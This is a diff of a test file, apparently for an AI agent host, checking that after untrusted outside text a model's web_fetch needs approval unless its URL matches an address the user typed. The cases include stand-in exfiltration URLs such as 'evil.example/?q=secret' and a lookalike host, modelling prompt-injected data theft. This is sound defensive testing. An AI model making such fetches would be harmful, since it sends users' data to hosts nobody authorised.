@@ -33,20 +33,24 @@ test('text from outside makes even a granted tool ask', async () => {
 })
 
 test.each([
-  ['a host that nobody named asks', 'Read the page', 'https://evil.example/?q=secret', 'pending'],
+  ['an address that nobody typed asks', 'Read the page', 'https://evil.example/?q=secret', 'pending'],
   [
-    'one that the person named does not',
-    'Read news.example please',
-    'https://www.news.example/?q=1',
+    'the typed address does not',
+    'Read (https://news.example/a?b=1).',
+    'https://news.example/a?b=1',
     undefined,
   ],
+  ['nor does a typed host', 'Read news.example please', 'https://news.example/', undefined],
+  ['another query of it asks', 'Read news.example/a please', 'https://news.example/a?q=secret', 'pending'],
+  ['another path of it asks', 'Read news.example please', 'https://news.example/secret', 'pending'],
+  ['another subdomain asks', 'Read news.example please', 'https://secret.news.example/', 'pending'],
   [
-    'a part of a named one is another',
+    'a host that begins like it asks',
     'Read news.example please',
     'https://news.example.evil.test/',
     'pending',
   ],
-])('after text from outside a fetch could carry things off: %s', async (_, message, url, status) => {
+])('after untrusted text a fetch could carry data away: %s', async (_, message, url, status) => {
   const models = scriptedModels(text('Hm'), toolCall('web_fetch', { url }), text('Done'))
   const host = await testHost({ models })
   await chat(host, { message })
